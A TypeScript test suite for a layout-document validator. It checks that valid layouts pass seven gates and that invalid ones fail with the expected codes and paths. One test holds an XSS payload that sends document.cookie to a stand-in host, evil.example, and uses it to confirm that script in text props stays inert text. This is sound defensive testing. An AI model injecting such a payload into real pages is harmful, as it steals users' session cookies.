// The layout corpus: every valid document passes the seven gates (as text and as an object),
// every invalid one fails with the codes expected.json names, at paths that point into it.
import assert from 'node:assert/strict';
import { statSync } from 'node:fs';
import { describe, test } from 'node:test';
import { builtinCatalog, ISSUE_CODES, runGates, type GateResult, type Issue } from '../../../src/gates/index.js';
import {
  assertWellFormed,
  expected,
  invalidFiles,
  optionsFor,
  parentPointer,
  resolvePointer,
  tryParse,
  validFiles,
  type CorpusFile,
} from './corpus.js';

/** Codes no document can produce: they come from around the gates, not from them. */
const NOT_FROM_DOCUMENTS: Record<string, string> = {
  unreadable_file: 'jig check reports it when a file cannot be read; runGates never sees a file',
  bad_patch: 'a patch, not a document, causes it (test/node/layout/patch_test.ts, test/browser/surface/live_test.ts)',
  patch_failed: 'a patch, not a document, causes it',
  patch_test_failed: 'a patch, not a document, causes it',
  too_many_ops: 'a patch, not a document, causes it',
  bad_patch_line: 'a line of a patch stream, not a document, causes it',
};
const WHERE_IT_SHOULD_BE = new Set(['missing_key', 'missing_prop']);

/** When the document is readable JSON, each path points into it (or, for something missing, to its parent). */
function assertPathsInside(issues: readonly Issue[], doc: unknown, context: string): void {
  for (const i of issues) {
    if (resolvePointer(doc, i.path).found) continue;
    assert.ok(
      WHERE_IT_SHOULD_BE.has(i.code) && resolvePointer(doc, parentPointer(i.path)).found,
      `${context}: ${i.code} at ${JSON.stringify(i.path)} points at nothing in the document`,
    );
  }
}

function docOf(file: CorpusFile, asObject: boolean): unknown {
  if (asObject) return JSON.parse(file.text);
  return file.text;
}

describe('valid layouts', () => {
  test('the corpus has at least 12 valid documents and uses all 33 built-in types', () => {
    assert.ok(validFiles.length >= 12, `${validFiles.length} valid files`);
    assert.ok(
      validFiles.some((f) => f.name.endsWith('.txt') && f.text.includes('```json')),
      'a fenced model reply',
    );
    const used = new Set<string>();
    for (const f of validFiles) {
      const r = runGates(f.text);
      if (r.ok) r.layout.nodes.forEach((n) => used.add(n.type));
    }
    assert.equal(builtinCatalog.types.length, 33);
    assert.deepEqual(
      builtinCatalog.types.filter((t) => !used.has(t)),
      [],
    );
  });

  for (const file of validFiles) {
    test(`${file.name} passes every gate as text`, () => {
      const r = runGates(file.text);
      assert.ok(r.ok, `refused: ${r.ok ? '' : JSON.stringify(r.issues, null, 1)}`);
      assert.equal(r.layout.version, 1);
      for (const w of r.warnings) assertWellFormed([w], file.name);
    });

    test(`${file.name} passes every gate as an object, with the same layout`, () => {
      const fromText = runGates(file.text);
      assert.ok(fromText.ok);
      const obj = file.name.endsWith('.json') ? JSON.parse(file.text) : JSON.parse(JSON.stringify(fromText.layout));
      const r = runGates(obj);
      assert.ok(r.ok, `refused: ${r.ok ? '' : JSON.stringify(r.issues, null, 1)}`);
      assert.deepEqual(r.layout, fromText.layout);
    });
  }

  test('runGates leaves the document it checks untouched, valid or not', () => {
    const deepFreeze = (v: unknown): unknown => {
      if (v !== null && typeof v === 'object') {
        Object.values(v).forEach(deepFreeze);
        Object.freeze(v);
      }
      return v;
    };
    for (const file of [
      ...validFiles.filter((f) => f.name.endsWith('.json')),
      ...invalidFiles.filter((f) => f.name.endsWith('.json') && tryParse(f.text).ok),
    ]) {
      const doc = JSON.parse(file.text) as unknown;
      const copy = structuredClone(doc);
      const r = runGates(deepFreeze(doc), optionsFor(expected[file.name] ?? { issues: [] }));
      assert.ok(
        r.ok || !r.issues.some((i) => i.message.startsWith('the checks failed unexpectedly')),
        `${file.name}: a gate wrote to a frozen document`,
      );
      assert.deepEqual(doc, copy, file.name);
    }
  });

  test('a heading that skips a level passes with a warning that points at its level', () => {
    const doc = JSON.parse(validFiles.find((f) => f.name === 'booking-form.json')!.text);
    doc.nodes.find((n: { id: string }) => n.id === 'intro').type = 'heading';
    doc.nodes.find((n: { id: string }) => n.id === 'intro').props = { text: 'Details', level: 3 };
    const r = runGates(doc);
    assert.ok(r.ok);
    assert.deepEqual(
      r.warnings.map((w) => [w.gate, w.code, w.path]),
      [['catalog', 'heading_skips_level', '/nodes/2/props/level']],
    );
    assert.ok(r.warnings[0]!.message.length > 0);
  });

  test('text props holding markup and script stay text: they pass and come back unchanged', () => {
    const file = validFiles.find((f) => f.name === 'xss-strings-stay-text.json')!;
    const r = runGates(file.text);
    assert.ok(r.ok);
    const p1 = r.layout.nodes.find((n) => n.id === 'p1')!;
    assert.equal(p1.props!.text, "<script>document.location='https://evil.example/?c='+document.cookie</script>");
  });
});

describe('invalid layouts', () => {
  test('every invalid file has an expectation, and every expectation a file', () => {
    const names = invalidFiles.map((f) => f.name);
    assert.deepEqual(
      names.filter((n) => !expected[n]),
      [],
    );
    assert.deepEqual(
      Object.keys(expected).filter((n) => !names.includes(n)),
      [],
    );
  });

  test('file names say the first expected code: <code>--<what>', () => {
    for (const f of invalidFiles) {
      const code = f.name.split('--')[0]!;
      assert.ok(
        expected[f.name]!.issues.some((i) => i.code === code),
        `${f.name} does not expect ${code}`,
      );
    }
  });

  test('every issue code a document can cause has at least one invalid file', () => {
    const covered = new Set(Object.values(expected).flatMap((e) => e.issues.map((i) => i.code)));
    for (const code of Object.keys(NOT_FROM_DOCUMENTS))
      assert.ok(code in ISSUE_CODES, `${code} is no longer an issue code`);
    const missing = Object.keys(ISSUE_CODES).filter((c) => !covered.has(c) && !(c in NOT_FROM_DOCUMENTS));
    assert.deepEqual(missing, []);
  });

  test('expected gates match the code table', () => {
    for (const [name, e] of Object.entries(expected)) {
      for (const i of e.issues) {
        const def = ISSUE_CODES[i.code as keyof typeof ISSUE_CODES];
        assert.equal(i.gate, def ? def.gate : 'domain', `${name}: ${i.code}`);
      }
    }
  });

  test('no corpus file is over 50 kB (bombs are generated by the tests)', () => {
    for (const f of [...validFiles, ...invalidFiles])
      assert.ok(statSync(f.path).size < 50 * 1024, `${f.name} is too big`);
  });

  for (const file of invalidFiles) {
    const e = expected[file.name];
    if (!e) continue;
    const asObject = e.input === 'object';
    const check = (r: GateResult, how: string, doc: unknown) => {
      const context = `${file.name} (${how})`;
      assert.equal(r.ok, false, `${context} passed`);
      if (r.ok) return;
      assertWellFormed(r.issues, context);
      for (const want of e.issues) {
        const got: Issue[] = r.issues.filter((i) => i.code === want.code);
        assert.ok(
          got.length,
          `${context}: expected ${want.code}, got ${JSON.stringify(r.issues.map((i) => [i.code, i.path]))}`,
        );
        for (const g of got) assert.equal(g.gate, want.gate, `${context}: ${want.code} from the ${g.gate} gate`);
        if (want.path !== undefined) {
          assert.ok(
            got.some((g) => g.path === want.path),
            `${context}: ${want.code} at ${JSON.stringify(want.path)}, got ${JSON.stringify(got.map((g) => g.path))}`,
          );
        }
      }
      for (const code of e.absent ?? []) {
        assert.ok(!r.issues.some((i) => i.code === code), `${context}: must not report ${code}`);
      }
      if (r.issues.some((i) => i.gate === 'parse')) {
        assert.ok(
          r.issues.every((i) => i.gate === 'parse'),
          `${context}: nothing else is checked when parsing fails`,
        );
      }
      if (doc !== undefined) assertPathsInside(r.issues, doc, context);
    };

    test(`${file.name} is refused with ${e.issues.map((i) => i.code).join(', ')}`, () => {
      const parsed = tryParse(file.text);
      const input = docOf(file, asObject);
      check(runGates(input, optionsFor(e)), asObject ? 'object' : 'text', parsed.ok ? parsed.value : undefined);
    });

    const parsed = tryParse(file.text);
    if (!asObject && parsed.ok && !e.issues.some((i) => i.gate === 'parse')) {
      test(`${file.name} is refused the same way as an object`, () => {
        check(runGates(JSON.parse(file.text), optionsFor(e)), 'object', JSON.parse(file.text));
      });
    }
  }
});
